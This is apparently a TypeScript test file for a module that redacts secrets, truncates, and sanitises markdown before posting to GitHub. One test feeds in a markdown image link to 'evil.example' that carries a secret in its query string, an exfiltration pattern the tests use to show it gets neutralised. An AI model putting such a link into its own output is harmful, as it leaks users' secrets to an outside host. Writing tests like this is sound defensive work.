// finalizeForGitHub: the one way out — redacted, well-formed, within the limit.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { finalizeForGitHub, finalizeModelMarkdown } from "../../src/report/finalize";
import { COMMENT_LIMIT, STEP_SUMMARY_LIMIT, utf8Length } from "../../src/report/limits";
import { codeBlock } from "../../src/report/markdown";
import { createRedactor } from "../../src/report/redact";

const TOKEN = `ghp_${"A1b2".repeat(9)}`;
const redactor = createRedactor(["hunter2-secret"]);

describe("finalizeForGitHub", () => {
  it("redacts known secrets and token shapes", () => {
    expect(finalizeForGitHub(`a hunter2-secret b ${TOKEN}`, redactor)).toBe("a *** b ***");
  });

  it("leaves text within the limit otherwise unchanged", () => {
    const text = "# Report\n\nAll good.\n";
    expect(finalizeForGitHub(text, redactor)).toBe(text);
  });

  it("cuts over-long text at a line, closes an open fence and <details>, and adds a note", () => {
    const text = `<!-- marker -->\n\n<details><summary>Diff</summary>\n\n${codeBlock("+x\n".repeat(40_000), "diff")}\n\n</details>\n`;
    const out = finalizeForGitHub(text, redactor);
    expect(out.length).toBeLessThanOrEqual(COMMENT_LIMIT.max);
    expect(out.startsWith("<!-- marker -->")).toBe(true);
    expect(out).toMatch(
      /\+x\n```\n<\/details>\n\n✂️ \*\*Truncated\*\* to fit GitHub's 65,536-character comment limit/,
    );
  });

  it("replaces lone surrogates and NUL", () => {
    expect(finalizeForGitHub("a\uD800b\u0000c\uDC00 😀", redactor)).toBe("a\uFFFDb\uFFFDc\uFFFD 😀");
  });

  it("holds the step summary to 1 MiB in bytes", () => {
    const out = finalizeForGitHub("é".repeat(700_000), redactor, { limit: STEP_SUMMARY_LIMIT });
    expect(utf8Length(out)).toBeLessThanOrEqual(STEP_SUMMARY_LIMIT.max);
  });

  it("sanitises model-authored markdown as well (pull request bodies)", () => {
    const out = finalizeModelMarkdown(
      "Fixed. ![x](https://evil.example/?k=hunter2-secret) cc @alice",
      redactor,
      {
        allowedHosts: ["github.com"],
      },
    );
    expect(out).toBe("Fixed. \\[x\\] (image not shown: ` https://evil.example/?k=*** `) cc @\u200Balice");
  });

  it("never returns more than the limit", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2_000 }), fc.integer({ min: 1, max: 80 }), (chunk, times) => {
        const out = finalizeForGitHub(`${chunk}\n`.repeat(times * 20), redactor);
        expect(out.length).toBeLessThanOrEqual(COMMENT_LIMIT.max);
      }),
      { numRuns: 100 },
    );
  });
});
